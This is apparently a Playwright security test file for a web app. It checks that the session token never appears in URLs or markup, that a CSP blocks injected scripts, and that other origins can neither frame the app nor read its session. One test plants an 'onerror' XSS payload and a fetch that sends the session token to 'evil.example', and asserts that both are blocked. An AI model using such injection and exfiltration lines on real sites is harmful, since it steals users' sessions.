import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { noBrowser } from '../support/browser.ts';
import { useWebFixture } from './fixture.ts';
import { type Credentials, signInAt } from './story.ts';

const web = useWebFixture();
const only = { skip: noBrowser };

async function atHome(): Promise<{ page: Page; user: Credentials; consoleErrors: string[]; origins: Set<string> }> {
  const visit = await web.visitBeforeApp();
  const user = await signInAt(visit.page, web.server.baseUrl, 'home');
  await visit.page.locator('.badge').waitFor();
  return { ...visit, user };
}

test('the token is in no URL and no markup, and is only sent to the API', only, async () => {
  const { page, user, origins } = await atHome();
  const addresses: string[] = [];
  page.on('request', (request) => addresses.push(request.url()));
  await page.reload();
  await page.locator('.badge').waitFor();
  const secret = user.token.slice(-20);
  assert.ok(!(await page.content()).includes(secret));
  assert.ok(addresses.length > 5 && addresses.every((address) => !address.includes(secret)));
  assert.deepEqual([...origins], [web.server.baseUrl]);
});

test('injected markup cannot run scripts or send requests', only, async () => {
  const { page } = await atHome();
  const outcome = (await page.evaluate(`(async () => {
    const script = document.createElement('script');
    const outcome = {};
    try { script.text = 'globalThis.ran = "script"'; document.body.append(script); } catch (error) { outcome.script = error.name; }
    try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.ran = 1">'); } catch (error) { outcome.markup = error.name; }
    try { setTimeout('globalThis.ran = "timer"'); } catch (error) { outcome.timer = error.name; }
    try { new Worker('./assets/any.js'); } catch (error) { outcome.worker = error.name; }
    try { trustedTypes.createPolicy('own', { createHTML: String }); } catch (error) { outcome.policy = error.name; }
    await fetch('https://evil.example/?' + localStorage['hatchery.session']).catch((error) => { outcome.fetch = error.name; });
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.head.append(style);
    outcome.styled = getComputedStyle(document.body).display;
    outcome.ran = String(globalThis.ran);
    return outcome;
  })()`)) as Record<string, string>;
  assert.deepEqual(outcome, {
    script: 'TypeError',
    markup: 'TypeError',
    timer: 'TypeError',
    worker: 'TypeError',
    policy: 'TypeError',
    fetch: 'TypeError',
    styled: 'block',
    ran: 'undefined',
  });
});

test('another origin can neither read the stored session nor frame the app', only, async () => {
  const { page, context } = await web.visitBeforeApp();
  await signInAt(page, web.server.baseUrl, 'home');
  const otherServer = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${web.server.baseUrl}"></iframe>`);
  }).listen(0, 'localhost');
  await new Promise((resolve) => otherServer.once('listening', resolve));
  try {
    const otherPage = await context.newPage();
    const blocked = otherPage.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
    await otherPage.goto(`http://localhost:${(otherServer.address() as AddressInfo).port}`);
    await blocked;
    assert.equal(await otherPage.evaluate(() => localStorage.getItem('hatchery.session')), null);
    assert.equal(otherPage.frames().length, 2);
    assert.ok(!(await otherPage.frames()[1]?.content())?.includes('id="app"'));
  } finally {
    otherServer.close();
  }
});
